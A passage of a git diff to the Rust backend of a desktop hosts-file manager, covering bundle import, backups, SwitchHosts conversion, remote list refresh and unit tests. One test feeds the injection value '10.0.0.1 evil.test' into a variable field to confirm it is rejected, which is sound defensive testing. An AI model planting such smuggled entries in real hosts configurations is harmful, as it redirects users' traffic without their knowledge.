 
-pub fn import_data_internal(ctx: &Context, json_content: String) -> Result<(), String> {
-    let backup: FullBackup = serde_json::from_str(&json_content).map_err(|e| e.to_string())?;
-    
-    // Reset config
-    save_config_internal(ctx, &backup.config)?;
-    
-    // Save each profile (New Version: Vec<ProfileData>)
-    if let Some(profiles) = backup.profiles {
-        for profile in profiles {
-            save_profile_file_internal(ctx, &profile.id, &profile.content)?;
+/// Creates or overwrites (by name) every profile in a `TeamBundle`. Every profile is
+/// checked first, so a bad name, a duplicate or a locked target imports nothing; with
+/// `verify` so does a checksum mismatch.
+pub fn import_bundle_internal(ctx: &Context, json_content: &str, verify: bool) -> Result<BundleImport, StorageError> {
+    let bundle: TeamBundle = serde_json::from_str(json_content).map_err(|e| format!("Invalid bundle: {}", e))?;
+
+    let actual = bundle_checksum(&bundle.profiles, bundle.version);
+    let checksum_ok = actual.eq_ignore_ascii_case(bundle.sha256.trim());
+    if verify && !checksum_ok {
+        return Err(format!(
+            "Bundle checksum mismatch: expected {}, contents hash to {}; the bundle was modified or corrupted",
+            bundle.sha256, actual
+        )
+        .into());
+    }
+
+    let config = load_config_internal(ctx)?;
+    let mut seen = std::collections::HashSet::new();
+    for p in &bundle.profiles {
+        if p.name.trim().is_empty() {
+            return Err(StorageError::InvalidName { name: p.name.clone() });
         }
-    } 
-    // Save each profile (Old Version: HashMap<id, content>)
-    else if let Some(profiles_content) = backup.profiles_content {
-        for (id, content) in profiles_content {
-            save_profile_file_internal(ctx, &id, &content)?;
+        if !seen.insert(p.name.as_str()) {
+            return Err(format!("The bundle lists '{}' more than once", p.name).into());
         }
+        if let Some(existing) = config.profiles.iter().find(|e| e.name == p.name) {
+            ensure_unlocked(&config, &existing.id)?;
+        }
+        ensure_within_profile_limit(&config, &format!("Profile '{}'", p.name), &p.content)?;
     }
-    
-    Ok(())
+
+    let mut imported = Vec::new();
+    for snippet in bundle.profiles {
+        let name = snippet.name.clone();
+        import_snippet(ctx, snippet).map_err(|e| match e {
+            StorageError::Other(e) => StorageError::Other(format!("Failed to import '{}': {}", name, e)),
+            e => e,
+        })?;
+        imported.push(name);
+    }
+    Ok(BundleImport { imported, checksum_ok })
 }
 
 #[tauri::command]
-pub fn export_data(app: AppHandle) -> Result<String, String> {
-    export_data_internal(&Context::Tauri(&app))
+pub fn export_data(app: AppHandle, format: Option<BackupFormat>) -> Result<String, String> {
+    export_data_internal(&Context::Tauri(&app), format.unwrap_or_default())
 }
 
-pub fn export_data_internal(ctx: &Context) -> Result<String, String> {
-    let config = load_config_internal(ctx)?;
+pub fn export_data_internal(ctx: &Context, format: BackupFormat) -> Result<String, String> {
+    let mut config = load_config_internal(ctx)?;
+    // Import ignores it anyway, and a hook may embed tokens or paths
+    config.on_apply = None;
     let profiles = list_profiles_internal(ctx)?;
     
     let backup = FullBackup {
@@ -505,7 +3506,64 @@ pub fn export_data_internal(ctx: &Context) -> Result<String, String> {
         profiles_content: None,
     };
     
-    serde_json::to_string_pretty(&backup).map_err(|e| e.to_string())
+    match format {
+        BackupFormat::Json => serde_json::to_string_pretty(&backup).map_err(|e| e.to_string()),
+        BackupFormat::Yaml => serde_yaml::to_string(&backup).map_err(|e| e.to_string()),
+    }
+}
+
+const BACKUP_PREFIX: &str = "hostly-backup-";
+
+pub fn get_backups_dir(ctx: &Context) -> Result<PathBuf, String> {
+    Ok(ctx.get_app_dir()?.join("backups"))
+}
+
+/// Backup files in `dir`, oldest first (the timestamped names sort chronologically).
+pub fn list_backups(dir: &std::path::Path) -> Result<Vec<PathBuf>, String> {
+    if !dir.exists() {
+        return Ok(Vec::new());
+    }
+    let mut backups: Vec<PathBuf> = fs::read_dir(dir)
+        .map_err(|e| e.to_string())?
+        .flatten()
+        .map(|e| e.path())
+        .filter(|p| {
+            p.file_name()
+                .and_then(|n| n.to_str())
+                .map(|n| n.starts_with(BACKUP_PREFIX) && n.ends_with(".json"))
+                .unwrap_or(false)
+        })
+        .collect();
+    backups.sort();
+    Ok(backups)
+}
+
+/// Writes a full export to `<dir>/hostly-backup-<timestamp>.json` (default dir: <app_dir>/backups)
+/// and deletes all but the newest `keep` backups there. `keep == 0` disables rotation.
+/// Returns the new file and any old backups that couldn't be removed.
+pub fn write_backup_internal(ctx: &Context, dir: Option<PathBuf>, keep: usize) -> Result<(PathBuf, Vec<String>), String> {
+    let dir = match dir {
+        Some(d) => d,
+        None => get_backups_dir(ctx)?,
+    };
+    fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
+
+    let json = export_data_internal(ctx, BackupFormat::Json)?;
+    let path = dir.join(format!("{}{}.json", BACKUP_PREFIX, chrono::Local::now().format("%Y%m%d-%H%M%S%.3f")));
+    crate::hosts::write_atomic(&path, &json).map_err(|e| e.to_string())?;
+
+    let mut problems = Vec::new();
+    if keep > 0 {
+        let backups = list_backups(&dir)?;
+        let excess = backups.len().saturating_sub(keep);
+        for old in &backups[..excess] {
+            if let Err(e) = fs::remove_file(old) {
+                problems.push(format!("Failed to remove old backup {}: {}", old.display(), e));
+            }
+        }
+    }
+
+    Ok((path, problems))
 }
 
 // Helpers for simple file io not needed as much now, but kept for single export if needed
@@ -520,29 +3578,94 @@ pub fn export_file(path: String, content: String) -> Result<(), String> {
 }
 
 // ================= CLI Helpers =================
-// These functions are pub but not commands, used by cli.rs
-#[tauri::command]
-pub fn find_profile_id_by_name(app: AppHandle, name: String) -> Result<Option<String>, String> {
-    find_profile_id_by_name_internal(&Context::Tauri(&app), &name)
-}
-
+// These functions are pub but not commands, used by cli.rs through a Context
 pub fn find_profile_id_by_name_internal(ctx: &Context, name: &str) -> Result<Option<String>, String> {
     let config = load_config_internal(ctx)?;
     Ok(config.profiles.iter().find(|p| p.name == name).map(|p| p.id.clone()))
 }
 
-#[tauri::command]
-pub fn upsert_profile(app: AppHandle, name: String, content: String) -> Result<String, String> {
-    upsert_profile_internal(&Context::Tauri(&app), name, content)
+/// Resolves a profile reference from the command line. `id:<uuid>` addresses a profile
+/// by its id, which survives renames; anything else (or an `id:` token matching no id)
+/// is looked up by name.
+pub fn resolve_profile(ctx: &Context, token: &str) -> Result<Option<String>, String> {
+    let config = load_config_internal(ctx)?;
+    let by_id = token
+        .strip_prefix("id:")
+        .and_then(|id| config.profiles.iter().find(|p| p.id == id.trim()));
+    Ok(by_id
+        .or_else(|| config.profiles.iter().find(|p| p.name == token))
+        .map(|p| p.id.clone()))
 }
 
 pub fn upsert_profile_internal(ctx: &Context, name: String, content: String) -> Result<String, String> {
     if let Some(id) = find_profile_id_by_name_internal(ctx, &name)? {
-        save_profile_file_internal(ctx, &id, &content)?;
+        save_profile_content_internal(ctx, &id, &content)?;
         Ok(id)
     } else {
 
-        create_profile_internal(ctx, name, Some(content), None, None)
+        Ok(create_profile_internal(ctx, name, Some(content), None, None, None)?)
+    }
+}
+
+#[tauri::command]
+pub fn export_switchhosts(app: AppHandle) -> Result<String, String> {
+    export_switchhosts_internal(&Context::Tauri(&app))
+}
+
+/// Builds a SwitchHosts v4 backup (`data.list.tree` + `data.collection.hosts.data`),
+/// the same shape `import_switchhosts` reads. Profile groups become folders.
+pub fn export_switchhosts_internal(ctx: &Context) -> Result<String, String> {
+    let profiles = list_profiles_internal(ctx)?;
+
+    let mut tree: Vec<serde_json::Value> = Vec::new();
+    let mut hosts_data = Vec::new();
+
+    for p in profiles {
+        let node_id = Uuid::new_v4().to_string();
+        let leaf = serde_json::json!({
+            "id": node_id,
+            "title": p.name,
+            "type": "local",
+            "on": p.active,
+        });
+        let folders: Vec<&str> = p.group.as_deref()
+            .map(|g| g.split('/').filter(|s| !s.is_empty()).collect())
+            .unwrap_or_default();
+        insert_switchhosts_node(&mut tree, &folders, leaf);
+
+        hosts_data.push(serde_json::json!({ "id": node_id, "content": p.content }));
+    }
+
+    let backup = serde_json::json!({
+        "version": [4, 0, 0, 0],
+        "data": {
+            "list": { "tree": tree, "trashcan": [] },
+            "collection": { "hosts": { "data": hosts_data } },
+        },
+    });
+    serde_json::to_string_pretty(&backup).map_err(|e| e.to_string())
+}
+
+fn insert_switchhosts_node(tree: &mut Vec<serde_json::Value>, folders: &[&str], leaf: serde_json::Value) {
+    let Some((first, rest)) = folders.split_first() else {
+        tree.push(leaf);
+        return;
+    };
+
+    let idx = match tree.iter().position(|n| n["type"] == "folder" && n["title"] == *first) {
+        Some(i) => i,
+        None => {
+            tree.push(serde_json::json!({
+                "id": Uuid::new_v4().to_string(),
+                "title": first,
+                "type": "folder",
+                "children": [],
+            }));
+            tree.len() - 1
+        }
+    };
+    if let Some(children) = tree[idx]["children"].as_array_mut() {
+        insert_switchhosts_node(children, rest, leaf);
     }
 }
 
@@ -577,7 +3700,7 @@ pub fn import_switchhosts_internal(ctx: &Context, json_content: String) -> Resul
         // Traverse tree
         if let Some(tree) = data.get("list").and_then(|l| l.get("tree")).and_then(|t| t.as_array()) {
             let mut count = 0;
-            parse_switchhosts_v4_tree_internal(ctx, tree, &content_map, &mut count)?;
+            parse_switchhosts_v4_tree_internal(ctx, tree, &content_map, None, &mut count)?;
             return Ok(count);
         }
     }
@@ -592,15 +3715,39 @@ pub fn import_switchhosts_internal(ctx: &Context, json_content: String) -> Resul
     };
 
     let mut count = 0;
-    parse_switchhosts_items_internal(ctx, list, &mut count)?;
+    parse_switchhosts_items_internal(ctx, list, None, &mut count)?;
 
     Ok(count)
 }
 
+/// Content to store for a SwitchHosts host. A host switched off there (`on: false`,
+/// or `enabled: false` in older exports) gets every line commented out, so it has no
+/// effect until its entries are re-enabled but nothing is lost.
+fn switchhosts_item_content(item: &serde_json::Value, content: &str) -> String {
+    let on = item.get("on").or_else(|| item.get("enabled")).and_then(|v| v.as_bool()).unwrap_or(true);
+    if on {
+        return content.to_string();
+    }
+
+    content
+        .split('\n')
+        .map(|line| {
+            let trimmed = line.trim();
+            if trimmed.is_empty() || trimmed.starts_with('#') {
+                line.to_string()
+            } else {
+                format!("# {}", trimmed)
+            }
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
 fn parse_switchhosts_v4_tree_internal(
     ctx: &Context, 
     items: &Vec<serde_json::Value>, 
     content_map: &std::collections::HashMap<&str, &str>, 
+    group: Option<&str>,
     count: &mut usize
 ) -> Result<(), String> {
     for item in items {
@@ -610,32 +3757,40 @@ fn parse_switchhosts_v4_tree_internal(
 
         if item_type == "folder" {
             if let Some(children) = item.get("children").and_then(|c| c.as_array()) {
-                parse_switchhosts_v4_tree_internal(ctx, children, content_map, count)?;
+                let child_group = nested_group_name(group, title);
+                parse_switchhosts_v4_tree_internal(ctx, children, content_map, Some(&child_group), count)?;
             }
         } else {
             // Find content in map or item itself
-            let content = content_map.get(id).map(|c| *c).or_else(|| item.get("content").and_then(|v| v.as_str())).unwrap_or("");
-            upsert_profile_internal(ctx, title.to_string(), content.to_string())?;
+            let content = content_map.get(id).copied().or_else(|| item.get("content").and_then(|v| v.as_str())).unwrap_or("");
+            let profile_id = upsert_profile_internal(ctx, title.to_string(), switchhosts_item_content(item, content))?;
+            if let Some(g) = group {
+                set_profile_group_internal(ctx, &profile_id, Some(g.to_string()))?;
+            }
             *count += 1;
         }
     }
     Ok(())
 }
 
-fn parse_switchhosts_items_internal(ctx: &Context, items: &Vec<serde_json::Value>, count: &mut usize) -> Result<(), String> {
+fn parse_switchhosts_items_internal(ctx: &Context, items: &Vec<serde_json::Value>, group: Option<&str>, count: &mut usize) -> Result<(), String> {
     for item in items {
         let title = item.get("title").and_then(|v| v.as_str()).unwrap_or("Unknown");
         let folder = item.get("folder").and_then(|v| v.as_bool())
-            .or_else(|| item.get("type").and_then(|v| Some(v.as_str() == Some("folder"))))
+            .or_else(|| item.get("type").map(|v| v.as_str() == Some("folder")))
             .unwrap_or(false);
         
         if folder {
             if let Some(children) = item.get("children").and_then(|c| c.as_array()) {
-                parse_switchhosts_items_internal(ctx, children, count)?;
+                let child_group = nested_group_name(group, title);
+                parse_switchhosts_items_internal(ctx, children, Some(&child_group), count)?;
             }
         } else {
             let content = item.get("content").and_then(|v| v.as_str()).unwrap_or("");
-            upsert_profile_internal(ctx, title.to_string(), content.to_string())?;
+            let profile_id = upsert_profile_internal(ctx, title.to_string(), switchhosts_item_content(item, content))?;
+            if let Some(g) = group {
+                set_profile_group_internal(ctx, &profile_id, Some(g.to_string()))?;
+            }
             *count += 1;
         }
     }
@@ -643,57 +3798,100 @@ fn parse_switchhosts_items_internal(ctx: &Context, items: &Vec<serde_json::Value
     Ok(())
 }
 
+/// Nested SwitchHosts folders become a "Parent/Child" group path.
+fn nested_group_name(parent: Option<&str>, title: &str) -> String {
+    match parent {
+        Some(p) => format!("{}/{}", p, title),
+        None => title.to_string(),
+    }
+}
+
 pub fn check_auto_updates(app: &AppHandle) {
-    let ctx = Context::Tauri(app);
     // Silent check, allow errors to just print to stderr
-    if let Ok(config) = load_config_internal(&ctx) {
-        let now = chrono::Local::now();
-        let mut needs_save = false;
-        
-        // Collect IDs to update to avoid borrow checker issues with iterating & mutating config
-        let mut updates_needed = Vec::new();
-
-        for p in &config.profiles {
-            if let (Some(_url), Some(interval), Some(last_update_str)) = (&p.url, p.update_interval, &p.last_update) {
-                if interval > 0 {
-                    if let Ok(last_update) = chrono::DateTime::parse_from_rfc3339(last_update_str) {
-                        let diff = now.signed_duration_since(last_update);
-                        if diff.num_seconds() >= interval as i64 {
-                            updates_needed.push(p.id.clone());
-                        }
-                    }
-                }
-            } else if let (Some(_url), Some(interval), None) = (&p.url, p.update_interval, &p.last_update) {
-                // Never updated, but has interval -> update now
-                 if interval > 0 {
-                    updates_needed.push(p.id.clone());
-                 }
+    match refresh_all_due(&Context::Tauri(app)) {
+        Ok(summary) => summary.failures.iter().for_each(|f| eprintln!("{}", f)),
+        Err(e) => eprintln!("Auto-update failed: {}", e),
+    }
+}
+
+fn is_refresh_due(p: &ProfileMetadata, now: chrono::DateTime<chrono::Local>) -> bool {
+    let interval = match (&p.url, p.update_interval) {
+        (Some(_), Some(interval)) if interval > 0 => interval,
+        _ => return false,
+    };
+    // A failed attempt counts like an update, so an unreachable server is retried once
+    // per interval rather than on every check. Stamps that don't parse count as never
+    let parse = |stamp: &Option<String>| stamp.as_deref().and_then(|s| chrono::DateTime::parse_from_rfc3339(s).ok());
+    match parse(&p.last_update).into_iter().chain(parse(&p.last_attempt)).max() {
+        Some(last) => now.signed_duration_since(last).num_seconds() >= interval as i64,
+        // Never updated, but has interval -> update now
+        None => true,
+    }
+}
+
+/// IDs of remote profiles whose update interval has elapsed.
+pub fn due_refresh_ids(ctx: &Context) -> Result<Vec<String>, String> {
+    let config = load_config_internal(ctx)?;
+    let now = chrono::Local::now();
+    Ok(config.profiles.iter().filter(|p| is_refresh_due(p, now)).map(|p| p.id.clone()).collect())
+}
+
+/// What a batch refresh did: how many profiles were updated, and a message for
+/// each one that failed (whose content was left as it was).
+#[derive(Debug, Default)]
+pub struct RefreshSummary {
+    pub updated: usize,
+    pub failures: Vec<String>,
+}
+
+/// Re-downloads a remote profile and re-applies if it is active.
+/// On a download failure the existing content is left untouched.
+pub fn refresh_profile(ctx: &Context, id: &str) -> Result<(), String> {
+    match refresh_profiles(ctx, &[id.to_string()])?.failures.pop() {
+        Some(failure) => Err(failure),
+        None => Ok(()),
+    }
+}
+
+/// Refreshes the given profiles and re-applies once if any active profile changed.
+pub fn refresh_profiles(ctx: &Context, ids: &[String]) -> Result<RefreshSummary, String> {
+    let mut summary = RefreshSummary::default();
+    let mut active_updated = false;
+
+    for id in ids {
+        match trigger_profile_update_internal(ctx, id) {
+            Ok(()) => {
+                let config = load_config_internal(ctx)?;
+                active_updated |= config.profiles.iter().any(|p| &p.id == id && p.active);
+                summary.updated += 1;
             }
-        }
-        
-        for id in updates_needed {
-            println!("Auto-updating profile {}...", id);
-            if let Err(e) = trigger_profile_update_internal(&ctx, &id) {
-                eprintln!("Failed to auto-update {}: {}", id, e);
+            Err(e) => {
+                summary.failures.push(format!("Failed to refresh {}: {}", id, e));
+                record_refresh_attempt(ctx, id)?;
             }
-            // re-application is handled inside trigger_profile_update_internal? 
-            // implementation_plan said Trigger triggers re-apply. 
-            // Actually `trigger_profile_update` command does, but `internal` does NOT re-apply.
-            // We should reload config to check if active and apply if needed?
-            // checking internal implementation...
-            // `trigger_profile_update_internal` saves file and updates timestamp in config.
-            // It does NOT call apply_config.
-            // So we need to do it here if any update happened.
-            needs_save = true;
         }
+    }
 
-        if needs_save {
-             // Re-apply config if any active profile was updated
-             // Optimization: check if any updated profile was active
-             // For now, just apply to be safe
-             let _ = apply_config_internal(&ctx);
-        }
+    if active_updated {
+        apply_config_internal(ctx)?;
     }
+    Ok(summary)
+}
+
+/// Stamps a failed refresh, so `is_refresh_due` waits a full interval before the next try.
+fn record_refresh_attempt(ctx: &Context, id: &str) -> Result<(), String> {
+    let mut config = load_config_internal(ctx)?;
+    let Some(p) = config.profiles.iter_mut().find(|p| p.id == id) else {
+        return Ok(());
+    };
+    p.last_attempt = Some(chrono::Local::now().to_rfc3339());
+    save_config_internal(ctx, &config)
+}
+
+/// Refreshes every remote profile whose interval has elapsed.
+pub fn refresh_all_due(ctx: &Context) -> Result<RefreshSummary, String> {
+    let ids = due_refresh_ids(ctx)?;
+    refresh_profiles(ctx, &ids)
 }
 
 #[tauri::command]
@@ -702,7 +3900,7 @@ pub fn update_remote_config(
     id: String,
     url: Option<String>,
     update_interval: Option<u64>
-) -> Result<(), String> {
+) -> Result<(), StorageError> {
     let ctx = Context::Tauri(&app);
     let mut config = load_config_internal(&ctx)?;
     
@@ -710,14 +3908,14 @@ pub fn update_remote_config(
         p.url = url;
         p.update_interval = update_interval;
     } else {
-        return Err("Profile not found".to_string());
+        return Err(StorageError::ProfileNotFound { id });
     }
 
-    save_config_internal(&ctx, &config)
+    Ok(save_config_internal(&ctx, &config)?)
 }
 
 #[tauri::command]
-pub fn trigger_profile_update(app: AppHandle, id: String) -> Result<(), String> {
+pub fn trigger_profile_update(app: AppHandle, id: String) -> Result<(), StorageError> {
     let ctx = Context::Tauri(&app);
     trigger_profile_update_internal(&ctx, &id)?;
     // If active, re-apply
@@ -728,33 +3926,65 @@ pub fn trigger_profile_update(app: AppHandle, id: String) -> Result<(), String>
     Ok(())
 }
 
-pub fn trigger_profile_update_internal(ctx: &Context, id: &str) -> Result<(), String> {
+pub fn trigger_profile_update_internal(ctx: &Context, id: &str) -> Result<(), StorageError> {
     let mut config = load_config_internal(ctx)?;
     
     let (url, name) = if let Some(p) = config.profiles.iter().find(|p| p.id == id) {
         (p.url.clone(), p.name.clone())
     } else {
-        return Err("Profile not found".to_string());
+        return Err(StorageError::ProfileNotFound { id: id.to_string() });
     };
 
-    let url = url.ok_or("Profile is not a remote profile (no URL)")?;
+    let url = url.ok_or(StorageError::NotRemote)?;
     
     // Download
-    println!("Downloading profile '{}' from '{}'...", name, url);
+    eprintln!("Downloading profile '{}' from '{}'...", name, url);
     let content = download_text(&url)?;
+    ensure_within_profile_limit(&config, &format!("Profile '{}'", name), &content)?;
 
     // Save Content
     save_profile_file_internal(ctx, id, &content)?;
 
     // Update Timestamp
     if let Some(p) = config.profiles.iter_mut().find(|p| p.id == id) {
-        p.last_update = Some(chrono::Local::now().to_rfc3339());
+        let now = chrono::Local::now().to_rfc3339();
+        p.last_update = Some(now.clone());
+        p.last_attempt = None;
+        p.updated_at = Some(now);
     }
     save_config_internal(ctx, &config)?;
     
     Ok(())
 }
 
+#[tauri::command]
+pub fn import_from_url(app: AppHandle, name: String, url: String) -> Result<String, String> {
+    let ctx = Context::Tauri(&app);
+    let id = import_from_url_internal(&ctx, name, url)?;
+
+    let config = load_config_internal(&ctx)?;
+    if config.profiles.iter().any(|p| p.id == id && p.active) {
+        apply_config(app)?;
+    }
+    Ok(id)
+}
+
+/// Downloads a hosts list into the named profile (created if missing) and records
+/// the URL as the profile's remote source.
+pub fn import_from_url_internal(ctx: &Context, name: String, url: String) -> Result<String, String> {
+    let content = download_text(&url)?;
+    let id = upsert_profile_internal(ctx, name, content)?;
+
+    let mut config = load_config_internal(ctx)?;
+    if let Some(p) = config.profiles.iter_mut().find(|p| p.id == id) {
+        p.url = Some(url);
+        p.last_update = Some(chrono::Local::now().to_rfc3339());
+    }
+    save_config_internal(ctx, &config)?;
+
+    Ok(id)
+}
+
 fn download_text(urls_str: &str) -> Result<String, String> {
     let mut combined_content = String::new();
     let urls: Vec<&str> = urls_str.lines().map(|s| s.trim()).filter(|s| !s.is_empty()).collect();
@@ -775,16 +4005,538 @@ fn download_text(urls_str: &str) -> Result<String, String> {
     Ok(combined_content)
 }
 
+/// Upper bound for a single downloaded hosts list
+const MAX_DOWNLOAD_BYTES: usize = 10 * 1024 * 1024;
+
 fn download_single_url(url: &str) -> Result<String, String> {
     let response = minreq::get(url)
         .with_timeout(10)
-        .send()
+        .send_lazy()
         .map_err(|e| format!("Network error downloading {}: {}", url, e))?;
-        
-    if response.status_code >= 200 && response.status_code < 300 {
-        response.as_str().map(|s| s.to_string()).map_err(|e| format!("Invalid text encoding from {}: {}", url, e))
-    } else {
-        Err(format!("HTTP Error {} from {}", response.status_code, url))
+
+    if !(200..300).contains(&response.status_code) {
+        return Err(format!("HTTP Error {} from {}", response.status_code, url));
+    }
+
+    // Stream the body so an oversized response is rejected without buffering all of it
+    let mut body = Vec::new();
+    for byte in response {
+        let (b, _) = byte.map_err(|e| format!("Network error downloading {}: {}", url, e))?;
+        body.push(b);
+        if body.len() > MAX_DOWNLOAD_BYTES {
+            return Err(format!("Response from {} exceeds {} MB", url, MAX_DOWNLOAD_BYTES / 1024 / 1024));
+        }
     }
+
+    let text = String::from_utf8(body).map_err(|e| format!("Invalid text encoding from {}: {}", url, e))?;
+    if looks_like_html(&text) {
+        return Err(format!("{} returned an HTML page, not a hosts list (check that the URL points to the raw file)", url));
+    }
+    Ok(text)
+}
+
+fn looks_like_html(text: &str) -> bool {
+    let head: String = text.trim_start().chars().take(512).collect::<String>().to_lowercase();
+    head.starts_with("<!doctype html") || head.starts_with("<html") || head.contains("<head>") || head.contains("<body")
 }
 
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// An empty multi-select config in a scratch app dir. DryRun never writes the system hosts.
+    fn scratch() -> (tempfile::TempDir, Context<'static>) {
+        let dir = tempfile::tempdir().unwrap();
+        let ctx = Context::DryRun(dir.path().to_path_buf());
+        let config = AppConfig { schema_version: CONFIG_SCHEMA_VERSION, multi_select: true, ..Default::default() };
+        save_config_internal(&ctx, &config).unwrap();
+        (dir, ctx)
+    }
+
+    fn add_profile(ctx: &Context, name: &str, content: &str, active: bool) -> String {
+        let id = create_profile_internal(ctx, name.to_string(), Some(content.to_string()), None, None, None).unwrap();
+        if active {
+            toggle_profile_active_internal(ctx, &id).unwrap();
+        }
+        id
+    }
+
+    #[test]
+    fn ipv4_and_ipv6_entries_for_one_host_do_not_conflict() {
+        let (_dir, ctx) = scratch();
+        add_profile(&ctx, "v4", "127.0.0.1 localhost\n10.0.0.1 api.local\n", true);
+        add_profile(&ctx, "v6", "::1 localhost\n10.0.0.2 api.local\n", true);
+
+        let conflicts = detect_conflicts_internal(&ctx).unwrap();
+        assert_eq!(conflicts.len(), 1);
+        assert_eq!(conflicts[0].hostname, "api.local");
+
+        let merged = build_merged_hosts(&ctx).unwrap();
+        assert!(merged.lines().any(|l| l == "127.0.0.1 localhost"));
+        assert!(merged.lines().any(|l| l == "::1 localhost"));
+        assert!(merged.contains("# [Hostly] overridden: 10.0.0.1 api.local -> 10.0.0.2 (v6)"));
+    }
+
+    #[test]
+    fn resolve_sees_manual_entries_outside_the_managed_block() {
+        let (_guard, _hosts) = crate::hosts::tests::scratch_system("10.9.9.9 manual.local\n");
+        let (_dir, ctx) = scratch();
+        add_profile(&ctx, "dev", "10.0.0.1 manual.local\n10.0.0.2 api.local\n", true);
+
+        // The managed block comes after the manual line, so the profile wins
+        assert_eq!(resolve_in_pending_internal(&ctx, "manual.local").unwrap().as_deref(), Some("10.0.0.1"));
+        assert_eq!(resolve_in_pending_internal(&ctx, "MANUAL.local").unwrap().as_deref(), Some("10.0.0.1"));
+        assert_eq!(resolve_in_pending_internal(&ctx, "API.local").unwrap().as_deref(), Some("10.0.0.2"));
+        assert_eq!(resolve_in_pending_internal(&ctx, "other.local").unwrap(), None);
+    }
+
+    #[test]
+    fn locked_profiles_reject_edits_renames_and_deletes() {
+        let (_dir, ctx) = scratch();
+        let id = add_profile(&ctx, "backup", "127.0.0.1 localhost\n", false);
+        set_profile_locked_internal(&ctx, &id, true).unwrap();
+
+        let locked = StorageError::ProfileLocked { name: "backup".to_string() };
+        assert_eq!(save_profile_content_internal(&ctx, &id, "").unwrap_err(), locked);
+        assert_eq!(rename_profile_internal(&ctx, &id, "other".to_string()).unwrap_err(), locked);
+        assert_eq!(delete_profile_internal(&ctx, &id).unwrap_err(), locked);
+        assert_eq!(locked.code(), "profile_locked");
+        assert_ne!(locked.message(Locale::En), locked.message(Locale::Zh));
+
+        set_profile_locked_internal(&ctx, &id, false).unwrap();
+        save_profile_content_internal(&ctx, &id, "").unwrap();
+    }
+
+    #[test]
+    fn storage_errors_serialize_with_a_stable_code() {
+        let err = StorageError::DuplicateName { name: "Dev".to_string() };
+        let json = serde_json::to_value(&err).unwrap();
+        assert_eq!(json["code"], "duplicate_name");
+        assert_eq!(json["message"], err.to_string());
+
+        assert_eq!(err.message(Locale::Both), "环境名称 'Dev' 已存在 / Profile name 'Dev' already exists");
+        assert_eq!(StorageError::IoError("disk full".to_string()).message(Locale::Both), "disk full");
+    }
+
+    #[test]
+    fn toggles_and_applies_fail_with_typed_errors() {
+        let (_dir, ctx) = scratch();
+        let err = toggle_profile_active_internal(&ctx, "missing").unwrap_err();
+        assert_eq!(err, StorageError::ProfileNotFound { id: "missing".to_string() });
+
+        add_profile(&ctx, "dev", "10.0.0.1 api.local\n", true);
+        let mut config = load_config_internal(&ctx).unwrap();
+        config.max_hosts_bytes = Some(8);
+        save_config_internal(&ctx, &config).unwrap();
+        let err = apply_config_with_summary_internal(&ctx).unwrap_err();
+        assert_eq!(err.code(), "too_large");
+        assert!(err.message(Locale::En).contains("max_hosts_bytes"));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn apply_hook_failures_and_timeouts_are_reported() {
+        let hook = |cmd: &str| AppConfig { on_apply: Some(cmd.to_string()), ..Default::default() };
+        let timeout = std::time::Duration::from_millis(300);
+
+        assert_eq!(run_apply_hook(&hook("true"), timeout), Ok(()));
+        let failed = run_apply_hook(&hook("echo boom >&2; exit 3"), timeout).unwrap_err();
+        assert!(failed.contains("Some(3)") && failed.contains("boom"), "{}", failed);
+
+        let started = std::time::Instant::now();
+        let hung = run_apply_hook(&hook("sleep 5"), timeout).unwrap_err();
+        assert!(hung.contains("timed out"), "{}", hung);
+        assert!(started.elapsed() < std::time::Duration::from_secs(3));
+    }
+
+    #[test]
+    fn locale_falls_back_to_both_languages() {
+        let _guard = crate::hosts::tests::lock_env();
+        for var in ["HOSTLY_LANG", "LC_ALL", "LC_MESSAGES", "LANG"] {
+            std::env::remove_var(var);
+        }
+        assert_eq!(Locale::current(), Locale::Both);
+
+        std::env::set_var("LANG", "zh_CN.UTF-8");
+        assert_eq!(Locale::current(), Locale::Zh);
+        std::env::set_var("HOSTLY_LANG", "en");
+        assert_eq!(Locale::current(), Locale::En);
+        std::env::remove_var("HOSTLY_LANG");
+        std::env::remove_var("LANG");
+    }
+
+    #[test]
+    fn merge_import_returns_the_locked_profiles_it_skipped() {
+        let (_dir, ctx) = scratch();
+        let id = add_profile(&ctx, "prod", "10.0.0.1 api.local\n", false);
+        let backup = export_data_internal(&ctx, BackupFormat::Json).unwrap();
+        save_profile_content_internal(&ctx, &id, "10.0.0.9 api.local\n").unwrap();
+        set_profile_locked_internal(&ctx, &id, true).unwrap();
+
+        let skipped = import_data_internal(&ctx, backup, ImportMode::Merge, None).unwrap();
+        assert_eq!(skipped, vec![StorageError::ProfileLocked { name: "prod".to_string() }.to_string()]);
+        assert_eq!(read_profile_content_internal(&ctx, &id).unwrap(), "10.0.0.9 api.local\n");
+    }
+
+    #[test]
+    fn summary_goes_dirty_when_an_environment_variable_in_use_changes() {
+        let (_guard, _hosts) = crate::hosts::tests::scratch_system("127.0.0.1 localhost\n");
+        let ctx = Context::Headless;
+        std::env::set_var("HOSTLY_TEST_API_IP", "10.0.0.1");
+        add_profile(&ctx, "dev", "${HOSTLY_TEST_API_IP} api.local\n", true);
+        apply_config_internal(&ctx).unwrap();
+        assert!(summary_line_internal(&ctx).unwrap().ends_with("clean"));
+
+        std::env::set_var("HOSTLY_TEST_API_IP", "10.0.0.2");
+        assert!(summary_line_internal(&ctx).unwrap().ends_with("dirty"));
+        std::env::remove_var("HOSTLY_TEST_API_IP");
+    }
+
+    #[test]
+    fn variables_must_be_a_single_word() {
+        let (_dir, ctx) = scratch();
+        assert!(set_variable_internal(&ctx, "HOST_IP", Some("10.0.0.1 evil.test".to_string())).is_err());
+        assert!(set_variable_internal(&ctx, "HOST_IP", Some("10.0.0.1".to_string())).is_ok());
+    }
+
+    #[test]
+    fn bundle_import_checks_every_profile_before_writing() {
+        let (_dir, ctx) = scratch();
+        let prod = add_profile(&ctx, "prod", "10.0.0.1 api.local\n", false);
+        let dev = add_profile(&ctx, "dev", "10.0.0.2 api.local\n", false);
+        let bundle = export_bundle_internal(&ctx, &[dev.clone(), prod.clone()]).unwrap();
+        save_profile_content_internal(&ctx, &dev, "10.0.0.3 api.local\n").unwrap();
+        set_profile_locked_internal(&ctx, &prod, true).unwrap();
+
+        // "dev" comes first in the bundle but must not be touched either
+        assert_eq!(import_bundle_internal(&ctx, &bundle, true).unwrap_err().code(), "profile_locked");
